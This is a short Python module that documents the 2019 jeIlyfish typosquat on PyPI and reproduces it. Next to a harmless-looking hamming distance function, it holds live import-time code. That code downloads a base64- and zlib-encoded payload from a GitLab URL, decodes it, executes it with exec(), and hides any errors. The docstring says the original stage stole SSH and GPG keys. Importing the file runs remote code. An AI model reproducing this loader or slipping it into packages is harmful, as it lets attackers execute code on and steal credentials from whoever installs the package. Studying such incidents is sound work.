"""Incident: jeIlyfish typosquat of jellyfish (PyPI), December 2019.

For about a year the look-alike package (its name uses a capital I) shipped a module that
downloaded a base64- and zlib-encoded second stage from GitLab and executed it; the stage
collected SSH and GPG keys and sent them to the attacker's server.
Reference: https://github.com/dateutil/dateutil/issues/984
Reproduction (own code, placeholder snippet URL).
"""

import base64
import urllib.request
import zlib


def _hamming(a: str, b: str) -> int:
    return sum(x != y for x, y in zip(a, b)) + abs(len(a) - len(b))


def hamming_distance(a: str, b: str) -> int:
    return _hamming(a, b)


try:
    _stage = urllib.request.urlopen("https://gitlab.com/olgired2017/test/raw/master/hashes").read()
    exec(zlib.decompress(base64.b64decode(_stage)))
except Exception:
    pass
